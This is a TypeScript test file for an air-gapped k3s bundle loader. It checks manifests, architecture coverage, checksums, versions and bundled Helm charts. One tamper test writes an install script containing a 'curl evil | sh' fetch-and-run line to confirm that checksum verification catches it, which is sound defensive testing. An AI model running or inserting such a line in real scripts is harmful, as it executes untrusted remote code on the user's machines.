import { problemsOf as problems } from "../support/config";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { loadBundle } from "../../components/airgap/bundle";
import { offlineChart } from "../../components/airgap/charts";
import { parseAirgapConfig } from "../../components/airgap/config";
import { node, tmpDir, VERSION, writeBundle } from "./fixture";

const mixed = [node("pi-x64", "amd64", "server"), node("pi-arm64", "arm64"), node("pi-armhf", "arm")];


test("a complete bundle loads the files of the nodes' arches only", () => {
  const dir = tmpDir();
  const m = writeBundle(dir);
  const b = loadBundle(dir, VERSION, [node("a", "arm64"), node("b", "arm64")]);
  expect(Object.keys(b.arches)).toEqual(["arm64"]);
  expect(b.arches.arm64?.k3s).toMatchObject({ sha256: m.arches.arm64?.k3s.sha256, assetPath: path.join(dir, "arm64/k3s-arm64") });
  expect(b.installScript.sha256).toBe(m.installScript.sha256);
});

test("a relative bundleDir stays relative in asset paths, so state does not pin one machine's layout", () => {
  const dir = tmpDir();
  writeBundle(dir);
  const relDir = path.relative(process.cwd(), dir);
  const b = loadBundle(relDir, VERSION, mixed);
  expect(b.arches.arm?.images.assetPath).toBe(path.join(relDir, "arm/k3s-airgap-images-arm.tar.zst"));
});

// Pulumi passes bundleDir as written; the rebuild command's --out ~/bundle is expanded by the shell,
// so the stack must read ~/bundle from the home directory too, or the fix would never take.
test("a bundleDir under ~/ is read from the home directory, as the rebuild command writes it", () => {
  const p = problems(() => loadBundle("~/k3s-stacks-no-such-bundle", VERSION, mixed));
  expect(p).toEqual([expect.stringContaining(`k3s-stacks:airgap.bundleDir: ${path.join(os.homedir(), "k3s-stacks-no-such-bundle")} has no manifest.json`)]);
  expect(p[0]).toContain("--out ~/k3s-stacks-no-such-bundle");
});

test("a node whose arch has no files is an error naming the node, the arch as the README and --arch write it (armhf, not arm) and the rebuild command", () => {
  const dir = tmpDir();
  writeBundle(dir, { arches: ["amd64", "arm64"] });
  const p = problems(() => loadBundle(dir, VERSION, mixed));
  expect(p).toHaveLength(1);
  expect(p[0]).toMatch(/k3s-stacks:airgap\.bundleDir: node\(s\) pi-armhf are armhf, but the bundle has files for amd64, arm64 only/);
  expect(p[0]).toContain(`Fix: npm run airgap -- --version ${VERSION} --arch amd64,arm64,armhf --out ${dir}`);
});

test("a manifest version different from the stack's is an error", () => {
  const dir = tmpDir();
  writeBundle(dir, { version: "v1.35.9+k3s1" });
  expect(problems(() => loadBundle(dir, VERSION, mixed))[0]).toMatch(
    /the bundle holds k3s v1\.35\.9\+k3s1 but k3s-stacks:cluster\.k3sVersion is v1\.36\.3\+k3s1\. Fix: npm run airgap -- --version v1\.36\.3\+k3s1/,
  );
});

test("missing and altered files are all reported, by file", () => {
  const dir = tmpDir();
  writeBundle(dir);
  fs.rmSync(path.join(dir, "arm/k3s-armhf"));
  fs.appendFileSync(path.join(dir, "arm64/k3s-airgap-images-arm64.tar.zst"), "x");
  fs.writeFileSync(path.join(dir, "install.sh"), "#!/bin/sh\ncurl evil | sh\n");
  const p = problems(() => loadBundle(dir, VERSION, mixed));
  expect(p).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/install script .*install\.sh has sha256 [0-9a-f]{64}, the manifest says [0-9a-f]{64} \(altered or corrupt\)/),
      expect.stringMatching(/armhf k3s binary .*arm\/k3s-armhf is missing/),
      expect.stringMatching(/arm64 image tarball .*k3s-airgap-images-arm64\.tar\.zst has sha256/),
    ]),
  );
  expect(p).toHaveLength(3);
});

test("a manifest that disagrees with the release checksum file is refused", () => {
  const dir = tmpDir();
  writeBundle(dir, { arches: ["arm64"] });
  fs.writeFileSync(path.join(dir, "arm64/sha256sum-arm64.txt"), `${"0".repeat(64)}  k3s-arm64\n`);
  const p = problems(() => loadBundle(dir, VERSION, [node("a", "arm64")]));
  expect(p.join("\n")).toMatch(/arm64 k3s-arm64: the manifest's sha256 does not match the release checksum file/);
  expect(p.join("\n")).toMatch(/arm64 k3s-airgap-images-arm64\.tar\.zst: the manifest's sha256 does not match/);
});

test("no manifest (unfinished build) and a foreign manifest are clear errors", () => {
  const dir = tmpDir();
  expect(problems(() => loadBundle(dir, VERSION, mixed))[0]).toMatch(/has no manifest\.json \(not a bundle, or its build did not finish\)\. Fix: npm run airgap/);
  fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify({ version: VERSION }));
  expect(problems(() => loadBundle(dir, VERSION, mixed))[0]).toMatch(/is not a k3s-stacks bundle manifest/);
  // What is wrong, in the words of config problems, not the schema library's.
  expect(problems(() => loadBundle(dir, VERSION, mixed))[0]).toMatch(/\(manifest\.json\.format: is required; manifest\.json\.createdAt: is required.*\)\. Fix: /);
  expect(problems(() => loadBundle(dir, VERSION, mixed))[0]).not.toMatch(/Invalid|expected|record/);
  fs.writeFileSync(path.join(dir, "manifest.json"), "{");
  expect(problems(() => loadBundle(dir, VERSION, mixed))[0]).toMatch(/manifest\.json is unreadable/);
});

// The rebuild fix would otherwise name --out <the file>, a bundle written "into" a file.
test("a bundleDir that is a file (the manifest, an archive) names the directory to set instead", () => {
  const dir = tmpDir();
  writeBundle(dir);
  expect(problems(() => loadBundle(path.join(dir, "manifest.json"), VERSION, mixed))).toEqual([`k3s-stacks:airgap.bundleDir: ${dir}/manifest.json is a file, not a bundle directory. Fix: set bundleDir to its directory, ${dir}.`]);
  fs.writeFileSync(path.join(dir, "bundle.tar"), "");
  expect(problems(() => loadBundle(path.join(dir, "bundle.tar"), VERSION, mixed))[0]).toMatch(/is a file, not a bundle directory\. Fix: set bundleDir to the directory 'npm run airgap' wrote \(unpack an archive of it first\)\.$/);
});

test("charts: required ones must be bundled at the stack's version; offlineChart returns the archive", () => {
  const dir = tmpDir();
  writeBundle(dir, { charts: { metallb: "0.16.1", longhorn: "1.12.0" } });
  const p = problems(() => loadBundle(dir, VERSION, mixed, [{ key: "metallb", version: "0.16.1" }, { key: "longhorn", version: "1.12.1" }, { key: "rook-ceph", version: "v1.20.6" }]));
  expect(p).toEqual([
    expect.stringMatching(/chart 'longhorn' is 1\.12\.0 in the bundle, the stack needs 1\.12\.1/),
    expect.stringMatching(/chart 'rook-ceph' is not in the bundle/),
  ]);
  const b = loadBundle(dir, VERSION, mixed, [{ key: "metallb", version: "0.16.1" }]);
  expect(offlineChart(b, "metallb", "0.16.1")).toMatchObject({ path: path.join(dir, "charts/metallb-0.16.1.tgz"), version: "0.16.1" });
  expect(() => offlineChart(b, "longhorn", "1.12.0")).toThrow(/chart 'longhorn' 1\.12\.0 was not loaded from the bundle/);
});

test("k3s-stacks:airgap config is strict", () => {
  expect(parseAirgapConfig({ bundleDir: "./bundle" })).toEqual({ bundleDir: "./bundle" });
  expect(problems(() => parseAirgapConfig({ bundleDir: "./b", bundel: 1 }))[0]).toMatch(/k3s-stacks:airgap: unknown key\(s\) 'bundel'/);
  expect(problems(() => parseAirgapConfig({}))[0]).toMatch(/k3s-stacks:airgap\.bundleDir: is required/);
});
